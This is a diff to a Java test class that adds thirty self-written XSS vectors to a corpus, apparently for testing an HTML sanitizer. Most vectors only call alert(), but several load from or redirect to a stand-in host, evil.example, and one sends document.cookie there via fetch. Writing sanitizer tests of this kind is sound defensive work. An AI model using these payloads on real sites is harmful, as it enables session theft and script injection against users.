@@ -29,6 +29,43 @@ final class XssCorpus {
 
   private XssCorpus() {}
 
+  /**
+   * Our own vectors, written for this test (not from the corpus): each context a page has (text,
+   * attribute, URL, style, script, SVG, markup breaking out of a tag or a comment).
+   */
+  static final List<String> OWN =
+      List.of(
+          "<script>alert('mm-own-1')</script>",
+          "<img src=x onerror=alert('mm-own-2')>",
+          "<svg onload=alert('mm-own-3')>",
+          "<svg><script>alert('mm-own-4')</script></svg>",
+          "\"><script>alert('mm-own-5')</script>",
+          "'><img src=x onerror=alert('mm-own-6')>",
+          "\" onmouseover=\"alert('mm-own-7')\" x=\"",
+          "' autofocus onfocus='alert(8)' x='",
+          "javascript:alert('mm-own-9')",
+          "JaVaScRiPt:alert('mm-own-10')",
+          "data:text/html,<script>alert('mm-own-11')</script>",
+          "<a href=\"javascript:alert('mm-own-12')\">click</a>",
+          "<iframe src=\"javascript:alert('mm-own-13')\"></iframe>",
+          "<body onload=alert('mm-own-14')>",
+          "<details open ontoggle=alert('mm-own-15')>",
+          "<math><mtext><table><mglyph><style><img src=x onerror=alert('mm-own-16')>",
+          "--><script>alert('mm-own-17')</script><!--",
+          "</textarea><script>alert('mm-own-18')</script>",
+          "</title><script>alert('mm-own-19')</script>",
+          "<style>*{background:url(//evil.example/x)}</style>",
+          "<link rel=stylesheet href=//evil.example/x.css>",
+          "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
+          "<base href=//evil.example/>",
+          "<form action=//evil.example/><input name=q></form>",
+          "<object data=\"javascript:alert('mm-own-25')\">",
+          "{{constructor.constructor('alert(26)')()}}",
+          "<img src=\"x\" onerror=\"fetch('//evil.example/'+document.cookie)\">",
+          "invoice\u202Egnp.php<script>alert('mm-own-28')</script>",
+          "<scr<script>ipt>alert('mm-own-29')</scr</script>ipt>",
+          "%3Cscript%3Ealert('mm-own-30')%3C%2Fscript%3E");
+
   /** {@code mimamori.corpus}, {@code MIMAMORI_CORPUS}, or a {@code shared/corpus} above here. */
   static Optional<Path> find() {
     String configured = System.getProperty("mimamori.corpus", System.getenv("MIMAMORI_CORPUS"));
